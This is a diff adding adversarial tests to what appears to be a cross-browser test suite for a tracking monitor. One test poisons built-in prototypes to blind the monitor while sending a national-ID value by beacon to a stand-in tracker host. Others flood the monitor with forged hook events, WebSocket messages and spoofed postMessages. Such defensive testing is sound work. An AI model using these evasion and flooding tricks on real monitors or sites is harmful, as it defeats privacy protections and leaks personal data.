@@ -242,6 +242,51 @@ describe.each(browsers)('in %s', (name) => {
     await isAlive();
   });
 
+  it('is heard though a page changes what every object inherits', async () => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(`async () => {
+      // The driver, too, asks what objects inherit: the page is made whole again once it has sent.
+      const names = ['get', 'set', 'value', 'toJSON', 'detail', 'relatedTarget', 'kind', 'text', 'read', 'body', 'cancelable', 'writable', 'readable', 'transform', 'flush'];
+      const species = Object.getOwnPropertyDescriptor(Promise, Symbol.species);
+      const {call, apply, bind} = Function.prototype;
+      const fail = () => { throw new Error('mine'); };
+      const blob = new Blob([new TextEncoder().encode('nir=${NIR}')]);
+      let sent = false;
+      try {
+        for (const name of names) Object.defineProperty(Object.prototype, name, {__proto__: null, configurable: true, writable: true, value: name === 'body' ? undefined : fail});
+        Object.defineProperty(Promise, Symbol.species, {__proto__: null, configurable: true, get: fail});
+        Function.prototype.call = Function.prototype.apply = Function.prototype.bind = fail;
+        sent = navigator.sendBeacon('https://suivi.test/c', blob);
+      } finally {
+        for (const name of names) delete Object.prototype[name];
+        Object.defineProperty(Promise, Symbol.species, species);
+        Function.prototype.call = call; Function.prototype.apply = apply; Function.prototype.bind = bind;
+      }
+      return sent;
+    }`);
+    await browser.reportWhen(page, 'the beacon', observed('third-party'));
+  });
+
+  it.each([
+    [
+      'the greeting of the hook, forged',
+      `for (let n = 0; n < 100000; n += 1) document.dispatchEvent(new FocusEvent('vitalerte-hello', {cancelable: true, relatedTarget: new EventTarget()}))`,
+    ],
+    [
+      'messages of a web socket',
+      `await new Promise((done) => { const s = new WebSocket('wss://suivi.test/direct'); s.onopen = () => { for (let n = 0; n < 100000; n += 1) s.send('x' + n); done(); }; })`,
+    ],
+    [
+      'messages to itself',
+      `for (let n = 0; n < 100000; n += 1) postMessage({name: 'bodies-seen', sent: {seen: [], missed: 9}}, '*')`,
+    ],
+  ])('outlives a flood: %s', async (_, act) => {
+    page = await browser.page('https://portail.test/vide');
+    await page.evaluate(`async () => { ${act}; return 1; }`);
+    await isAlive();
+    expect((await browser.storageDump()).length).toBeLessThan(1_000_000);
+  });
+
   it('tells of 500 sends in a burst, each once', async () => {
     page = await browser.page('https://portail.test/vide');
     servers.log.clear();
